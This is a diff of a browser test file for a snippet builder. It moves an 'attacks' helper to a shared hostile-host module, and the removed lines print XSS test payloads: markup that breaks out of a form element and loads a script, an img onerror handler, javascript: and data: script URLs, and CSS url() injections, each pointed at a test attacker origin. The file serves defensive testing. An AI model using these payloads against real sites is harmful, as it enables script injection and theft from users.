@@ -8,7 +8,7 @@ import { playwrightTab, useChromium } from '../helpers/browsers.ts';
 import { hosts, missingFiles } from '../helpers/host-gallery.ts';
 import { type Probe, reportOf, seeForm, seePage } from '../helpers/host-page.ts';
 import { siteDir } from '../helpers/hosted-site.ts';
-import { type HostileHost, startHostileHost } from '../helpers/hostile-host.ts';
+import { attacks, type HostileHost, startHostileHost } from '../helpers/hostile-host.ts';
 import { control, newPerson, QuoteForm } from '../helpers/journey.ts';
 import { soon, useSite } from '../helpers/journey-site.ts';
 
@@ -79,37 +79,6 @@ async function reachOfPreview(page: Page) {
     }
     return { origin: self.origin, reach, isRobbed: 'robbed' in window };
   });
-}
-
-const css = (url: string) => `red;background:url(${url})`;
-/** Every parameter of the builder's address, filled by an attacker. */
-function attacks(origin: string): [name: string, query: Record<string, string>][] {
-  const everywhere = Object.fromEntries(
-    elements.flatMap(({ attributes, cssProperties }) => [
-      ...Object.keys(attributes).map((name) => [name, `${origin}/${name}`]),
-      ...Object.keys(cssProperties).map((name) => [
-        name.replace('--luxe-', ''),
-        css(`${origin}/${name}`),
-      ]),
-    ]),
-  );
-  const markup = `"></luxe-quote-form><script src="${origin}/m.js"></script><img src="${origin}/i" onerror="robbed=1">`;
-  const inMarkup = Object.fromEntries(Object.keys(everywhere).map((name) => [name, markup]));
-  const code = `javascript:void(new Image().src='${origin}/j')`;
-  const inCode = Object.fromEntries(Object.keys(everywhere).map((name) => [name, code]));
-  return [
-    ['the address of the script', { script: `${origin}/` }],
-    [
-      'the address of the script, pinned',
-      { script: `${origin}/luxe-widgets.js`, version: 'pinned' },
-    ],
-    ['a javascript: address of the script', { script: `javascript:import('${origin}/x.js')` }],
-    ['a data: address of the script', { script: `data:text/javascript,import('${origin}/x.js')` }],
-    ['addresses and style sheets everywhere', { script: `${origin}/`, ...everywhere }],
-    ['markup everywhere', { script: markup, container: markup, ...inMarkup }],
-    ['javascript: addresses everywhere', { script: code, ...inCode }],
-    ['url() in a length and a font', { radius: `url(${origin}/r)`, font: `url("${origin}/f")` }],
-  ];
 }
 
 describe('a link to the snippet builder that somebody else has made', () => {
